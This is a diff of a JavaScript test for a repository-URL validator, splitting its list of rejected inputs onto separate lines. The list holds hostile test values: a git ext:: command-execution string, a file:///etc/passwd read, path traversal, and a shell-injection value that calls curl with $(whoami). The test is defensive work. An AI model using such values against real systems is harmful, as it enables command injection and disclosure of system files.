@@ -24,7 +24,19 @@ describe('normalizeRepoUrl', () => {
   });
 
   it('refuses what is not a repository address', () => {
-    for (const bad of ['', 'ext::sh -c touch% /tmp/pwned', 'file:///etc/passwd', 'https://github.com/', 'https://github.com/../etc', 'repo.git\';curl x/$(whoami)', 'a b', 'x\0y', 42, null, 'x'.repeat(600)]) {
+    for (const bad of [
+      '',
+      'ext::sh -c touch% /tmp/pwned',
+      'file:///etc/passwd',
+      'https://github.com/',
+      'https://github.com/../etc',
+      "repo.git';curl x/$(whoami)",
+      'a b',
+      'x\0y',
+      42,
+      null,
+      'x'.repeat(600),
+    ]) {
       expect(normalizeRepoUrl(bad)).toBeNull();
     }
   });
